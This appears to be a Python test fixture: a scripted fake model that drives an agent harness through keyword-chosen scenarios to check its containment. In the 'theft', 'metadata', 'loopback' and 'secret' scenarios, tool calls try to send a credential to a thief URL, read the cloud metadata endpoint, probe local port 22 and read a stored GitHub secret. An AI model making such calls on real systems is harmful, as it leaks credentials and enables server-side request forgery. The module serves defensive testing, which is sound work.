"""What the scripted model does: a word in the person's text picks a scenario, the turn picks its step.

No intelligence is pretended: each answer that is not a wish for a tool says that it is scripted.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any, Final

LABEL: Final = "[scripted]"
_QUOTED_CHARACTERS: Final = 2_000
_GARDEN: Final = {"repository": "mycelos/garden"}
_METADATA: Final = "http://169.254.169.254/latest/meta-data/"


@dataclass(frozen=True)
class Say:
    """Answer with text; ``{result}`` stands for what the last tool gave back."""

    text: str


@dataclass(frozen=True)
class Use:
    """Wish for a tool. ``raw_arguments``, where given, is sent as it is: it may be no JSON at all."""

    tool: str
    arguments: dict[str, Any] | None = None
    raw_arguments: str | None = None


@dataclass(frozen=True)
class Flood:
    """Answer with so many characters that every limit is passed."""

    characters: int


@dataclass(frozen=True)
class Hang:
    """Write the text, then nothing more, and keep the connection open."""

    text: str


@dataclass(frozen=True)
class Fail:
    """Answer with this HTTP status and an error body."""

    status: int


Step = Say | Use | Flood | Hang | Fail


@dataclass(frozen=True)
class Scenario:
    """One keyword and its steps. After the last step, it is repeated."""

    keyword: str
    steps: tuple[Step, ...]


def scenarios(thief_url: str) -> tuple[Scenario, ...]:
    """The scenarios, in the order in which keywords are looked for.

    Args:
        thief_url: where a stolen credential would be sent, such as ``http://127.0.0.1:9``.
    """
    return (
        Scenario(
            "issues",
            (
                Use("github.read.issues", _GARDEN),
                Say(f"{LABEL} I read the issues without ever seeing the key:\n\n{{result}}"),
            ),
        ),
        Scenario(
            "comment",
            (
                Use("github.write.comment", {"repository": "mycelos/garden", "issue": 1, "text": "Hello"}),
                Say(f"{LABEL} I could not write the comment: {{result}}"),
            ),
        ),
        Scenario(
            "theft",
            (
                Use("web.read.page", {"url": f"{thief_url}/collect/%7Bcredential%7D"}),
                Use("web.read.page", {"url": _METADATA}),
                Say(f"{LABEL} The theft came to nothing: {{result}}"),
            ),
        ),
        Scenario(
            "metadata",
            (
                Use("web.read.page", {"url": _METADATA}),
                Say(f"{LABEL} I could not reach that address: {{result}}"),
            ),
        ),
        Scenario(
            "loopback",
            (
                Use("web.read.page", {"url": "http://127.0.0.1:22/"}),
                Say(f"{LABEL} I could not reach that address: {{result}}"),
            ),
        ),
        Scenario(
            "secret",
            (
                Use("credential.read", {"service": "github"}),
                Say(f"{LABEL} Nobody gave me the secret: {{result}}"),
            ),
        ),
        Scenario(
            "malformed",
            (
                Use("github.read.issues", raw_arguments='{"repository": '),
                Say(f"{LABEL} My arguments were refused: {{result}}"),
            ),
        ),
        Scenario(
            "wrong arguments",
            (
                Use("github.read.issues", {"repository": 7, "surprise": True}),
                Say(f"{LABEL} My arguments were refused: {{result}}"),
            ),
        ),
        Scenario("huge", (Flood(3_000_000),)),
        Scenario("for ever", (Use("github.read.issues", _GARDEN),)),
        Scenario("hang", (Hang(f"{LABEL} I begin and then I stop"),)),
        Scenario("broken", (Fail(500),)),
        Scenario("", (Say(f"{LABEL} I am a script, not a model. Try: what are the open issues?"),)),
    )


def next_step(choices: tuple[Scenario, ...], person: str, tool_results: int) -> Step:
    """The step for a conversation whose last person's text is ``person``, with so many results after it."""
    text = person.lower()
    scenario = next(choice for choice in choices if choice.keyword in text)
    return scenario.steps[min(tool_results, len(scenario.steps) - 1)]


def fill_in(text: str, result: str) -> str:
    """Put the last tool's result, shortened, where ``{result}`` stands; a list of issues as a list to read."""
    return text.replace("{result}", _readable(result)[:_QUOTED_CHARACTERS])


def _readable(result: str) -> str:
    try:
        found = json.loads(result)
    except json.JSONDecodeError:
        return result
    if not isinstance(found, list) or not all(isinstance(item, dict) and "title" in item for item in found):
        return result
    return "\n".join(f"- **{item['title']}** (by {item.get('by')}): {item.get('body')}" for item in found)
